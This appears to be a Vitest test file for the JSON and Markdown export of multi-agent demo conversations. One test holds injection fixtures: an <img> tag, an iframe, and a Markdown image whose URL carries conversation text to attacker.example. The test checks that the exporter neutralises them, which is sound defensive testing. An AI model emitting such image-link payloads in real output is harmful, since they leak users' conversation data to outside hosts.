import { describe, expect, it } from 'vitest';
import { newConversation, withTurn } from '../../../../demo/src/conversations/conversation.js';
import { EXPORT_FORMAT, exportFileName, toJSON, toMarkdown } from '../../../../demo/src/conversations/export.js';
import { turn } from './turn-fixture.js';

describe('export', () => {
  const c = withTurn(newConversation(0), turn('Why is the sky blue?', 'Because air scatters **blue** light.', 10));

  it('JSON carries the whole conversation with the full trace and parses back', () => {
    const parsed = JSON.parse(toJSON(c, new Date('2026-02-01T10:00:00Z')));
    expect(parsed.format).toBe(EXPORT_FORMAT);
    expect(parsed.exportedAt).toBe('2026-02-01T10:00:00.000Z');
    expect(parsed.conversation.turns[0].main.result.trace).toHaveLength(3);
    expect(parsed.conversation.turns[0].main.result.trace[1]).toMatchObject({ role: 'critique', agent: 'Agent A', target: 'Agent B' });
    expect(parsed.conversation.turns[0].comparisons[0].mode).toBe('single');
  });

  it('Markdown has the question, the answer, the costs, the call table, and says when it was simulated', () => {
    const md = toMarkdown(c, new Date('2026-02-01T10:00:00Z'));
    expect(md).toContain('# Why is the sky blue?');
    expect(md).toContain('> Why is the sky blue?');
    expect(md).toContain('Because air scatters **blue** light.');
    expect(md).toContain('3 calls, 156 tokens (36 generated), 2.5 s, 2 layer(s), stopped early at layer 2');
    expect(md).toContain('| 2 | 1 | critique | Agent A | Agent B | 40 | 12 | 7 |');
    expect(md).toContain('simulated agents — no model was running');
    expect(md).toContain('### Compared: Single model');
  });

  it('Markdown opened in another viewer loads no image and runs no HTML from the answer or the question', () => {
    const injected = withTurn(newConversation(0), turn('Show <img src="https://attacker.example/q.png"> me', 'Sure: ![chart](https://attacker.example/p.png?d=the%20conversation)\n\n<iframe src="https://attacker.example/"></iframe>\n\n```html\n<b>code stays code</b>\n```', 10));
    const md = toMarkdown(injected);
    expect(md).toContain('image: chart (`https://attacker.example/p.png?d=the%20conversation`)');
    expect(md).toContain('&lt;iframe src="https://attacker.example/">&lt;/iframe>');
    expect(md).toContain('> Show &lt;img src="https://attacker.example/q.png"> me');
    expect(md).toContain('```html\n<b>code stays code</b>\n```');
    expect(md).not.toMatch(/!\[|<img|<iframe/);
  });

  it('names files from the title', () => {
    expect(exportFileName(c, 'json', new Date('2026-02-01T10:00:00Z'))).toBe('why-is-the-sky-blue-2026-02-01.json');
  });
});
